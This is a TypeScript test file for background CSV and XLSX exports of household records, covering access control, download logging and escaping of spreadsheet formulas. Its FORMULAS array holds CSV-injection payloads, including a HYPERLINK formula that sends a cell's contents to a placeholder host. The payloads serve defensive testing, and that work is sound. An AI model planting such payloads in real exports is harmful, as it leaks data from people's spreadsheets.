import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test } from '@japa/runner'
import { streamXlsxRows } from 'hucre/xlsx'
import { v7 as uuid } from 'uuid'
import { clock } from '#services/clock'
import { openCsv } from '#services/documents/csv_reader'
import { runAndWait } from '#services/jobs/run_and_wait'
import { query } from '#services/scope'
import { requestExport } from '#verification/lists/export_job'
import { periodFor } from '#verification/periods/index'
import { household } from '#tests/functional/imports/support'
import { openOffice, type Office } from '#tests/functional/review/support'
import { supervisorOf } from '#tests/support/people'
import { unzip } from '#tests/unit/documents/support'

const FORMULAS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', '+62811000000', '-UJI', '@SUM(1,1)', '\t=1+1', '\r=1+1']

const ask = (office: Office, village: string) =>
  office.act(async (tx) => {
    const period = await periodFor(tx, office.place.module, office.regency.code)
    return requestExport(tx, period!, { kind: 'existing', village }, 'csv', 'id')
  })

test.group('Exports in the background', (group) => {
  group.each.teardown(() => clock.restore())

  test('a job makes the file of exactly the filtered rows; it is taken by the person who asked, and logged', async ({
    client,
    assert,
  }) => {
    const office = await openOffice(([a, b]) => ['K1', 'K2', 'K3'].map((key, n) => household(key, n === 2 ? b! : a!, n + 1)))
    const [village] = office.regency.villages
    const id = await ask(office, village!)
    assert.equal(await ask(office, village!), id, 'the same export is asked for twice')
    const waiting = await client.get(`/bdt/unduhan/${id}`).loginAs(office.supervisor)
    assert.include(waiting.text(), `/pekerjaan/${id}.json`)
    ;(await client.get(`/bdt/unduhan/${id}/berkas`).loginAs(office.supervisor)).assertStatus(404)
    assert.equal((await runAndWait(id)).state, 'done')
    const page = await client.get(`/bdt/unduhan/${id}`).loginAs(office.supervisor)
    assert.include(page.text(), `BDT-${office.regency.code}-perbaikan-2026-11-25.csv`)
    const file = await client.get(`/bdt/unduhan/${id}/berkas`).loginAs(office.supervisor)
    const lines = file.text().trim().split('\r\n').slice(1)
    assert.deepEqual(
      lines.map((line) => line.split(';').at(-1)),
      ['K1', 'K2'],
    )
    const reads = await office.act((tx) =>
      query(tx, `select 1 from reads where regency_code = ? and action = 'download' and object_id = ?`, [
        office.regency.code,
        id,
      ]),
    )
    assert.lengthOf(reads, 1)
    const colleague = await supervisorOf(office.regency.code)
    for (const path of [`/bdt/unduhan/${id}`, `/bdt/unduhan/${id}/berkas`, `/bdt/unduhan/${uuid()}`, '/bdt/unduhan/x']) {
      ;(await client.get(path).loginAs(colleague)).assertStatus(404)
    }
  })

  test('names and addresses that a spreadsheet would run stay text in both formats, and come back as they were (S17)', async ({
    client,
    assert,
  }) => {
    const office = await openOffice(([village]) =>
      FORMULAS.map((text, n) => household(`K${n}`, village!, n + 1, { nama_krt: text, alamat: `${text} 7` })),
    )
    const csv = Buffer.from((await client.get('/bdt/perbaikan/unduh.csv').loginAs(office.supervisor)).text())
    const guarded = csv.toString().split('\r\n').slice(1)
    for (const text of FORMULAS)
      assert.isTrue(
        guarded.some((line) => line.includes(`"'${text.replaceAll('"', '""')}`)),
        text,
      )
    const folder = await mkdtemp(join(tmpdir(), 'siks-unduh-'))
    await writeFile(join(folder, 'unduh.csv'), csv)
    const table = await openCsv(join(folder, 'unduh.csv'))
    const back: string[][] = []
    for await (const { cells } of table.rows) back.push([cells[1]!, cells[3]!])
    await rm(folder, { recursive: true })
    assert.sameDeepMembers(
      back,
      FORMULAS.map((text) => [text, `${text} 7`]),
    )

    const asked = client.get('/bdt/perbaikan/unduh.xlsx').loginAs(office.supervisor)
    asked.request.responseType('blob')
    const answer = await asked
    answer.assertHeader('content-type', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    const bytes = answer.body() as Buffer
    assert.notInclude((await unzip(bytes)).get('xl/worksheets/sheet1.xml')!.toString(), '<f')
    const cells: unknown[][] = []
    for await (const { values } of streamXlsxRows(bytes)) cells.push([values[1], values[3], typeof values[8]])
    assert.sameDeepMembers(
      cells.slice(1),
      FORMULAS.map((text) => [text, `${text} 7`, 'number']),
    )
  })
})
